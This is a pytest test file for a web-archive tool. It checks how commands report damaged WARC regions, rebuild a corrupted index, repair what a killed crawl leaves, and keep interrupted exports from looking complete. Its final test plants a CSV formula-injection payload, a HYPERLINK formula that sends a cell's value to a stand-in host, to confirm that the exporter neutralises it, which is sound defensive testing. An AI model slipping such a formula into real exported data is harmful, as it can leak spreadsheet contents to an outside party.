"""Damaged and half-written archives: every command says what is wrong in one line, in the
same words, and carries on with everything that can still be read; ``verify --repair`` mends
what a killed crawl leaves."""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
from pathlib import Path

import pytest

from archive import export as exports
from archive.export.records import cells, inert
from archive.index import open_index
from archive.warc import OPEN_SUFFIX
from tests.conftest import gold_records, run_cli
from tests.test_recover import query

DAMAGE = re.compile(r"([\w.-]+\.warc\.gz): damaged region at offset (\d+) \(([\d,]+) bytes\)")


@pytest.fixture()
def archive(crawled_archive, tmp_path) -> Path:
    data = tmp_path / "data"
    shutil.copytree(crawled_archive, data, ignore=shutil.ignore_patterns("*.lock"))
    return data


def damage_an_article_capture(data: Path) -> tuple[str, str, int]:
    """Overwrite 40 bytes inside the response record an article's text came from; return the
    file, the URL and the record's offset."""
    name, url, offset, length = query(
        data, "select warc_file, url, warc_offset, warc_length from articles "
              "order by warc_offset desc limit 1")[0]
    path = data / "warc" / name
    with open(path, "r+b") as fh:
        fh.seek(offset + length // 2)
        fh.write(b"\0" * 40)
    return name, url, offset


def test_a_damaged_warc_region_is_skipped_and_named_alike_by_every_command(archive, tmp_path):
    captures = query(archive, "select count(*) from captures")[0][0]
    articles = query(archive, "select count(*) from articles")[0][0]
    name, url, offset = damage_an_article_capture(archive)

    verify = run_cli("verify", data=archive, check=False)
    assert verify.returncode == 1
    [(file, at, size)] = set(DAMAGE.findall(verify.stdout))  # the region, and pointers into it
    assert (file, int(at)) == (name, offset)
    words = f"{name}: damaged region at offset {at} ({size} bytes)"

    show = run_cli("show", "--raw", url, data=archive, check=False)
    assert show.returncode == 1 and words in show.stderr
    assert len(show.stderr.strip().splitlines()) == 1 and "Traceback" not in show.stderr

    wacz = run_cli("export", "--format", "wacz", "--output", str(tmp_path / "wacz"),
                   data=archive, check=False)
    cdxj = run_cli("cdxj", data=archive, check=False)
    reindex = run_cli("reindex", "--json", data=archive, check=False)
    for done in (wacz, cdxj, reindex):
        assert done.returncode == 0, done.stderr
        assert f"skipped: {words}" in done.stderr
        assert "Traceback" not in done.stderr
    # Every readable record is kept: all but the one capture, every article (its text is in
    # its conversion record, which is whole).
    lines = (archive / "index.cdxj").read_text().splitlines()
    assert query(archive, "select count(*) from captures")[0][0] == captures - 1
    assert len(lines) == captures - 1 - query(
        archive, "select count(*) from captures where record_type not in "
                 "('response', 'revisit', 'resource')")[0][0]
    assert query(archive, "select count(*) from articles")[0][0] == articles
    [said] = json.loads(reindex.stdout)["damaged"]
    assert said.startswith(words) and f"PROBLEM: {said}\n" in verify.stdout


@pytest.mark.parametrize("command", [["search", "hội"], ["show", "x"], ["status"], ["verify"],
                                     ["export", "--format", "jsonl", "--output", "OUT"],
                                     ["crawl", "--portal", "aluoi-tth"]])
def test_a_damaged_index_is_named_with_the_way_to_rebuild_it(archive, tmp_path, command):
    path = archive / "index.db"
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 3])
    for leftover in archive.glob("index.db-*"):
        leftover.unlink()
    args = [str(tmp_path / "out") if a == "OUT" else a for a in command]
    proc = run_cli(*args, data=archive, check=False)
    assert proc.returncode == 1
    [line] = proc.stderr.strip().splitlines()
    assert str(path) in line and "portal-archive reindex" in line


def test_reindex_mends_a_damaged_index(archive):
    articles = query(archive, "select count(*) from articles")[0][0]
    path = archive / "index.db"
    path.write_bytes(b"not a database" * 100)
    for leftover in archive.glob("index.db-*"):
        leftover.unlink()
    proc = run_cli("reindex", data=archive)
    assert "could not be read" in proc.stderr  # what WARC does not hold is lost, and said
    assert query(archive, "select count(*) from articles")[0][0] == articles
    assert run_cli("search", "hội", "--count", data=archive).stdout.strip() != "0"


# -- what a killed crawl leaves ------------------------------------------------------------------

def kill_like(data: Path) -> dict[str, int]:
    """Leave ``data`` as a crawl killed -9 leaves it: its last WARC file still .open with a
    torn last record, the records written since its last index write without their rows, and
    its run still ``running``."""
    name, run = query(data, "select warc_file, run_id from captures order by id desc limit 1")[0]
    path = data / "warc" / name
    opened = path.with_name(name + OPEN_SUFFIX)
    os.replace(path, opened)
    with open(opened, "ab") as fh:
        fh.write(b"\x1f\x8b\x08\x00" + b"\x55" * 300)  # half a gzip member
    conn = sqlite3.connect(data / "index.db")
    lost = conn.execute("select id, url from articles where warc_file = ? order by "
                        "first_seen desc limit 2", [name]).fetchall()
    conn.execute(f"delete from articles where id in ({','.join('?' * len(lost))})",
                 [i for i, _ in lost])
    dropped = conn.execute("delete from captures where id in (select id from captures where "
                           "warc_file = ? order by id desc limit 25)", [name]).rowcount
    conn.execute("update runs set status = 'running', ended = null where id = ?", [run])
    conn.commit()
    conn.close()
    return {"articles": len(lost), "captures": dropped}


def test_verify_finds_what_a_killed_crawl_leaves_and_repair_mends_it(archive):
    before = {table: query(archive, f"select count(*) from {table}")[0][0]
              for table in ("articles", "captures")}
    lost = kill_like(archive)
    check = run_cli("verify", "--json", data=archive, check=False)
    assert check.returncode == 1
    report = json.loads(check.stdout)
    assert report["missing"] == lost["articles"] + lost["captures"]
    problems = "\n".join(report["problems"])
    assert "never closed" in problems and "torn" in problems
    assert "never ended" in problems and "records missing from the index" in problems
    for command in (["reindex"], ["cdxj"]):  # they refuse to read past a half-written file
        refused = run_cli(*command, data=archive, check=False)
        assert refused.returncode == 1 and "verify --repair" in refused.stderr

    repair = run_cli("verify", "--repair", "--json", data=archive, check=False)
    assert json.loads(repair.stdout)["repairs"]
    after = json.loads(run_cli("verify", "--json", data=archive).stdout)
    assert after["ok"] and after["missing"] == 0
    assert {table: query(archive, f"select count(*) from {table}")[0][0]
            for table in before} == before
    assert not query(archive, "select id from runs where status = 'running'")
    gold = {g["url"] for g in gold_records()}
    assert gold <= {u for (u,) in query(archive, "select url from articles")} | {
        a for (alts,) in query(archive, "select alternate_urls from articles")
        for a in json.loads(alts)}


# -- exports ------------------------------------------------------------------------------------

# The simulated kill leaves the writer's file open, as a real one would.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_killed_export_never_looks_complete(archive, tmp_path, monkeypatch):
    output = tmp_path / "corpus"
    index = open_index(archive / "index.db")
    written = []

    def dies(self, record):  # the process killed after the first record
        if written:
            raise KeyboardInterrupt
        written.append(record)

    monkeypatch.setattr(exports.formats.WRITERS["jsonl"], "write", dies)
    with pytest.raises(KeyboardInterrupt):
        exports.export(index, data_dir=archive, fmt="jsonl", output=output)
    monkeypatch.undo()
    assert not output.exists()  # half an export is never where the export goes
    exports.export(index, data_dir=archive, fmt="jsonl", output=output)
    assert (output / "datasheet.json").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    # --force replaces a finished export, and only one
    exports.export(index, data_dir=archive, fmt="jsonl", output=output, force=True)
    records = (output / "articles.jsonl").read_text().splitlines()
    assert len(records) == query(archive, "select count(*) from articles")[0][0]
    index.close()


def test_csv_cells_never_run_as_formulas(archive, tmp_path):
    formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Bấm vào đây")'
    conn = sqlite3.connect(archive / "index.db")
    conn.execute("update articles set title = ?, author = ? where rowid = (select min(rowid) "
                 "from articles)", [formula, "-Trần Văn A"])
    conn.commit()
    conn.close()
    run_cli("export", "--format", "csv", "--output", str(tmp_path / "csv"), data=archive)
    text = (tmp_path / "csv" / "articles.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "'-Trần Văn A" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.M)
    assert inert("+84 234") == "'+84 234" and inert("Hà Nội") == "Hà Nội"
    assert cells({name: None for name in exports.FIELDS}) == [None] * len(exports.FIELDS)
